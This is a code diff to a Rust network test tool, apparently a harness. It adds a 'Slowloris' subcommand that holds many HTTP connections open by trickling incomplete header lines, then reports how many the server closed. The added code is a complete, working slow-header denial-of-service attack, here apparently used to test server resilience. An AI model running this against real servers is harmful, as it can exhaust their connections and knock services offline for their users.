@@ -60,6 +60,22 @@ enum Cmd {
         #[arg(long)]
         half_close: bool,
     },
+    /// Slowloris: open `--count` connections, send a request line and one header, then one
+    /// more header line on each every `--every-ms`, never finishing the head, for `--ms`.
+    /// Prints once all are opened (`{"opened", "failed"}`), then at the end how many the
+    /// far side had closed (or reset) and how many were still open.
+    Slowloris {
+        #[arg(long)]
+        to: SocketAddr,
+        #[arg(long)]
+        host: String,
+        #[arg(long)]
+        count: usize,
+        #[arg(long, default_value_t = 5000)]
+        every_ms: u64,
+        #[arg(long)]
+        ms: u64,
+    },
     /// Listen on `--addr` (an app taking a port) and hold it for `--ms`; prints the result
     /// of the bind at once.
     Bind {
@@ -807,6 +823,69 @@ fn main() {
                 Ok(v) => v,
                 Err(e) => json!({"result": classify(&e), "error": e.to_string()}),
             }
+        }
+        Cmd::Slowloris {
+            to,
+            host,
+            count,
+            every_ms,
+            ms,
+        } => {
+            raise_nofile();
+            let started = Instant::now();
+            let mut open = Vec::new();
+            let mut failed = 0u64;
+            for _ in 0..count {
+                match TcpStream::connect_timeout(&to, Duration::from_secs(2)) {
+                    Ok(mut s) => {
+                        let head = format!("GET / HTTP/1.1\r\nHost: {host}\r\n");
+                        if s.write_all(head.as_bytes()).is_ok() {
+                            let _ = s.set_nonblocking(true);
+                            open.push(s);
+                        } else {
+                            failed += 1;
+                        }
+                    }
+                    Err(_) => failed += 1,
+                }
+            }
+            println!(
+                "{}",
+                json!({"opened": open.len(), "failed": failed,
+                    "open_ms": started.elapsed().as_millis() as u64})
+            );
+            let _ = std::io::stdout().flush();
+            let mut closed = 0u64;
+            let mut buf = [0u8; 512];
+            let mut n = 0u64;
+            while started.elapsed() < Duration::from_millis(ms) {
+                std::thread::sleep(Duration::from_millis(every_ms.min(ms)));
+                n += 1;
+                open.retain_mut(|s| {
+                    // A close or reset from the far side ends this one.
+                    match s.read(&mut buf) {
+                        Ok(0) => {
+                            closed += 1;
+                            return false;
+                        }
+                        Ok(_) => {}
+                        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
+                        Err(_) => {
+                            closed += 1;
+                            return false;
+                        }
+                    }
+                    if s.write_all(format!("X-Slow-{n}: 1\r\n").as_bytes())
+                        .is_err()
+                    {
+                        closed += 1;
+                        return false;
+                    }
+                    true
+                });
+            }
+            json!({"closed_by_peer": closed, "still_open": open.len(),
+                "elapsed_ms": started.elapsed().as_millis() as u64})
         }
         Cmd::Bind { addr, ms } => {
             use std::io::Write as _;
